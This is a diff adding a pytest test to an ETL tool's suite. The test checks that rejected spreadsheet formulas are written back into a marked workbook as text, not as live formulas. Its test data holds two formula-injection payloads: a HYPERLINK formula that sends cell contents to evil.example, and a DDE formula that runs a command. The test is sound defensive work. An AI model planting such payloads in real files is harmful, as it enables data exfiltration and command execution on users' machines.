@@ -334,3 +334,27 @@ def test_360giving_xlsx_hidden_sheet_and_understated_dimension(base: Path, tmp_p
     assert table(base, "SELECT count(*), min(code), max(amount) FROM register_grant") == [
         (20, "360G-x-1", 1020)
     ]
+
+
+# -- 10. the marked workbook writes text as text ------------------------------------------------------------
+
+
+def test_rejected_formulas_come_back_in_the_marked_file_as_text_not_formulas(base: Path, tmp_path: Path):
+    import io
+
+    import openpyxl
+
+    from etl.marked import marked_workbook
+
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'
+    dde = "=cmd|' /C calc'!A0"
+    text = 'financiercode;naam;type\nF1;"' + hyperlink.replace('"', '""') + '";fonds\nF2;' + dde + ";fonds\n"
+    path = write(tmp_path, "=financiers.csv", text)
+    report = load(base, [path])
+    assert not report.published and {r.value for r in report.rejects} == {hyperlink, dde}
+    book = openpyxl.load_workbook(io.BytesIO(marked_workbook(path, report.rejects, "csv")))
+    cells = [
+        cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None
+    ]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert [c.value for c in book.worksheets[0]["B"]][1:] == [hyperlink, dde]
